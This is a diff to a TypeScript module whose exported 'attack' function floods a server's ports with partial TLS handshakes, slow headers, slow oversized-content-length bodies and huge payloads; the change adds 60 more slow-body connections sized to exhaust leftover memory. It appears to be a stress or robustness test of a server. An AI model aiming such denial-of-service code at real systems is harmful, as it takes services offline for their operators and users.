@@ -25,6 +25,9 @@ const slowHeads = 20;
 const slowBodies = 160;
 /** So many of them are more than all memory for bodies. */
 const slowBytes = Buffer.alloc(430 * 1024, ' ');
+/** And these take what is left between two of the others. */
+const smallSlowBodies = 60;
+const smallSlowBytes = Buffer.alloc(500, ' ');
 const hugeBytes = Buffer.alloc(24 * 1024 * 1024, ' ');
 
 export function attack({ ports, namespaces }: AttackTerms): Attack {
@@ -63,6 +66,7 @@ export function attack({ ports, namespaces }: AttackTerms): Attack {
     times(handshakes, () => keep(connectTcp({ host, port })).write(Buffer.from([22, 3, 1, 2, 0, 1, 0])));
     times(slowHeads, () => secure(port, head));
     times(slowBodies, () => secure(port, `${head}content-length: 7000000\r\n\r\n`, slowBytes));
+    times(smallSlowBodies, () => secure(port, `${head}content-length: 7000000\r\n\r\n`, smallSlowBytes));
     await Promise.all([hugeBytes, ...reviews].map((body) => forgeOne(port, body)));
   };
   const running = (async () => {
